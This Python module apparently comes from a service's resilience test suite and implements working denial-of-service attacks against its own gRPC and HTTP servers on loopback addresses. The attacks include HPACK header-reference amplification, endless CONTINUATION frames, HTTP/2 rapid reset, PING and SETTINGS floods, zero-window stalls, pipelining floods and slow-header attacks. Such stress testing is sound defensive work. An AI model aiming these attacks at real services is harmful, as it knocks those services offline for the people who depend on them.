"""Attacks below the level of calls: connections, frames of HTTP/2 and bytes that no client would send."""

from __future__ import annotations

import asyncio
import struct
from collections.abc import Awaitable, Callable
from contextlib import suppress
from itertools import count
from typing import Final, NamedTuple

from hpack import Encoder
from hyperframe import frame

from tests.servers import Server

ANOTHER_ADDRESS: Final = "127.0.0.2"  # where all attacks come from; the calls of others come from 127.0.0.1
PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
LARGEST_WINDOW: Final = (1 << 31) - 1
FRAME: Final = 16_000  # bytes of a frame; a service accepts 16,384 unless it says otherwise
RECONNECT_SECONDS: Final = 0.02
START_GAME, LIST_GAMES = "/chitarrella.v1.RulesService/StartGame", "/chitarrella.v1.CatalogueService/ListGames"
START_REST, LARGE_PAGE = "/v1/rules:startGame", "/openapi.json"


class Target(NamedTuple):
    """A service under attack: host and port of gRPC, those of HTTP, which may be the same; a store that may suffer."""

    grpc: str
    http: str
    store: Server | None = None


class Effect(NamedTuple):
    """What the attacker has seen: how much it sent, and whether what only it can tell is right."""

    sent: int
    note: str = ""
    is_right: bool = True


class Line:
    """One hostile connection; ``flood`` counts what is sent over all of them."""

    def __init__(self, flood: Flood, number: int, writer: asyncio.StreamWriter) -> None:
        self.number = number
        self._flood = flood
        self._writer = writer

    async def send(self, data: bytes, units: int = 1) -> None:
        """Send bytes that count as so many units."""
        self._writer.write(data)
        await self._writer.drain()
        self._flood.sent += units
        await asyncio.sleep(0)  # a service that takes everything would never let the others go on

    async def hold(self) -> None:
        """Do nothing until the attack is over or the service closes the connection."""
        await asyncio.sleep(3600)


Talk = Callable[[Line], Awaitable[None]]  # what is sent over one connection, until it is closed


class Flood:
    """Connections that are opened again if the service closes them."""

    def __init__(self) -> None:
        self.sent = self.opened = 0

    async def run(self, address: str, connections: int, seconds: float, talk: Talk, *, reads: bool = True) -> None:
        """Talk over so many connections for a time; what comes back is read and forgotten, or not even read."""
        with suppress(TimeoutError):
            async with asyncio.timeout(seconds):
                await asyncio.gather(*(self._keep(address, number, talk, reads) for number in range(connections)))

    async def _keep(self, address: str, number: int, talk: Talk, reads: bool) -> None:
        host, _, port = address.rpartition(":")
        while True:
            with suppress(OSError):
                reader, writer = await asyncio.open_connection(host, int(port), local_addr=(ANOTHER_ADDRESS, 0))
                self.opened += 1
                jobs = [asyncio.ensure_future(talk(Line(self, number, writer)))]
                jobs += [asyncio.create_task(_forget(reader))] if reads else []
                try:
                    await asyncio.wait(jobs, return_when=asyncio.FIRST_COMPLETED)
                finally:
                    for job in jobs:
                        job.cancel()
                    await asyncio.gather(*jobs, return_exceptions=True)
                    writer.transport.abort()
            await asyncio.sleep(RECONNECT_SECONDS)

    def effect(self) -> Effect:
        return Effect(self.sent, f"{self.opened:,} connections opened")


async def _forget(reader: asyncio.StreamReader) -> None:
    with suppress(OSError):
        while await reader.read(1 << 16):
            pass


async def flooded(addresses: set[str], connections: int, seconds: float, talk: Talk, *, reads: bool = True) -> Effect:
    flood = Flood()
    await asyncio.gather(*(flood.run(one, max(1, connections), seconds, talk, reads=reads) for one in addresses))
    return flood.effect()


def headers(path: str, *, is_rpc: bool) -> bytes:
    """A header block that leaves no trace in the table of the connection: a call, or a GET."""
    named = [(":method", "POST" if is_rpc else "GET"), (":scheme", "http"), (":authority", "chaos"), (":path", path)]
    named += [("content-type", "application/grpc"), ("te", "trailers")] if is_rpc else []
    return bytes(Encoder().encode([(name, value, True) for name, value in named]))


CALL: Final = headers(START_GAME, is_rpc=True)
EMPTY_MESSAGE: Final = bytes(5)


def begun(**settings: int) -> bytes:
    """The beginning of a connection of HTTP/2."""
    numbers = {getattr(frame.SettingsFrame, name.upper()): value for name, value in settings.items()}
    return PREFACE + bytes(frame.SettingsFrame(0, numbers).serialize())


def opened(stream: int, block: bytes, *flags: str) -> bytes:
    """A frame that opens a stream; its header block is complete unless the flags say otherwise."""
    return bytes(frame.HeadersFrame(stream, block, flags=flags or ("END_HEADERS",)).serialize())


def asked(stream: int) -> bytes:
    """A question with a large answer: a page, at the ports that serve pages, and an rpc at all of them."""
    page = opened(stream, headers(LARGE_PAGE, is_rpc=False), "END_HEADERS", "END_STREAM")
    rpc = opened(stream + 2, headers(LIST_GAMES, is_rpc=True))
    return page + rpc + bytes(frame.DataFrame(stream + 2, EMPTY_MESSAGE, flags=("END_STREAM",)).serialize())


async def header_references(at: Target, scale: float) -> Effect:
    """Put a long header into the table of the connection, and name it sixteen thousand times in one block."""
    entry = bytes(Encoder().encode([("x-filler", "a" * 4000)], huffman=False))

    async def talk(line: Line) -> None:
        await line.send(begun(header_table_size=4096))
        await line.send(opened(1, CALL + entry))
        for stream in count(3, 2):
            await line.send(opened(stream, CALL + b"\xbe" * (FRAME - len(CALL))))

    return await flooded({at.grpc, at.http}, 4, 5 * scale, talk)


async def endless_headers(at: Target, scale: float) -> Effect:
    """Open one stream whose header block never ends."""
    filler = bytes(Encoder().encode([(f"x-{place}", "a" * 400, True) for place in range(40)], huffman=False))[:FRAME]

    async def talk(line: Line) -> None:
        await line.send(begun())
        await line.send(opened(1, CALL, "END_STREAM"))
        while True:
            await line.send(bytes(frame.ContinuationFrame(1, filler).serialize()))

    return await flooded({at.grpc, at.http}, 4, 5 * scale, talk)


async def resets(address: str, seconds: float) -> Effect:
    """Open streams, and reset each at once."""

    async def talk(line: Line) -> None:
        await line.send(begun())
        for first in range(1, LARGEST_WINDOW - 200, 200):
            streams = range(first, first + 200, 2)
            burst = (opened(one, CALL) + bytes(frame.RstStreamFrame(one, 8).serialize()) for one in streams)
            await line.send(b"".join(burst), len(streams))

    return await flooded({address}, 4, seconds, talk)


async def pings(at: Target, scale: float) -> Effect:
    """Send frames that must be acknowledged; half of the connections do not read the acknowledgements."""
    burst = bytes(frame.PingFrame(0, b"12345678").serialize()) * 50 + bytes(frame.SettingsFrame(0).serialize()) * 50

    async def talk(line: Line) -> None:
        await line.send(begun())
        while True:
            await line.send(burst, 100)

    read, unread = await asyncio.gather(
        *(flooded({at.grpc, at.http}, 2, 5 * scale, talk, reads=reads) for reads in (True, False))
    )
    return Effect(read.sent + unread.sent, f"{read.note}, and {unread.note} and not read")


async def no_window(at: Target, scale: float) -> Effect:
    """Ask for large answers, and allow no byte of them."""

    async def talk(line: Line) -> None:
        await line.send(begun(initial_window_size=0) + b"".join(map(asked, range(1, 200, 4))), 100)
        await line.hold()

    return await flooded({at.grpc, at.http}, int(60 * scale), 8 * scale, talk)


async def unread(at: Target, scale: float) -> Effect:
    """Ask for large answers, allow all of them, and read none."""

    async def talk(line: Line) -> None:
        window = bytes(frame.WindowUpdateFrame(0, LARGEST_WINDOW - 65535).serialize())
        await line.send(begun(initial_window_size=LARGEST_WINDOW) + window)
        for first in range(1, 1 << 20, 80):
            await line.send(b"".join(map(asked, range(first, first + 80, 4))), 40)

    return await flooded({at.grpc, at.http}, int(30 * scale), 8 * scale, talk, reads=False)


async def pipelined(at: Target, scale: float) -> Effect:
    """Ask for a large page a hundred times on each connection of HTTP/1.1, and read nothing."""

    async def talk(line: Line) -> None:
        await line.send(f"GET {LARGE_PAGE} HTTP/1.1\r\nHost: chaos\r\n\r\n".encode() * 100, 100)
        await line.hold()

    return await flooded({at.http}, int(60 * scale), 8 * scale, talk, reads=False)


async def unfinished(at: Target, scale: float) -> Effect:
    """Announce messages of gRPC and bodies of HTTP, send a part of them, and no more."""
    part = struct.pack(">BI", 0, 200_000) + bytes(100)

    async def messages(line: Line) -> None:
        streams = range(1, 800, 2)
        frames = (opened(one, CALL) + bytes(frame.DataFrame(one, part).serialize()) for one in streams)
        await line.send(begun() + b"".join(frames), len(streams))
        await line.hold()

    async def bodies(line: Line) -> None:
        await line.send(head(START_REST, 1_000_000) + b" " * 300_000)
        await line.hold()

    seconds = 8 * scale
    found = await asyncio.gather(
        flooded({at.grpc}, int(10 * scale), seconds, messages), flooded({at.http}, int(200 * scale), seconds, bodies)
    )
    return Effect(sum(one.sent for one in found), "; ".join(one.note for one in found))


def head(path: str, length: int = 0) -> bytes:
    """The head of a POST over HTTP/1.1, without its end if it has no length."""
    text = f"POST {path} HTTP/1.1\r\nHost: chaos\r\nContent-Type: application/json\r\n"
    return (text + (f"Content-Length: {length}\r\n\r\n" if length else "X-Filler: ")).encode()


async def slow(at: Target, scale: float) -> Effect:
    """Send a byte a second: of headers on half of the connections, and of bodies on the others."""

    async def talk(line: Line) -> None:
        await line.send(head(START_REST, 4000 if line.number % 2 else 0))
        while True:
            await asyncio.sleep(1)
            await line.send(b" ", 0)

    return await flooded({at.http}, int(2100 * scale), max(2.5, 15 * scale), talk)


async def idle(at: Target, scale: float) -> Effect:
    async def talk(line: Line) -> None:
        await line.send(b"")
        await line.hold()

    return await flooded({at.grpc, at.http}, int(1000 * scale), 15 * scale, talk)
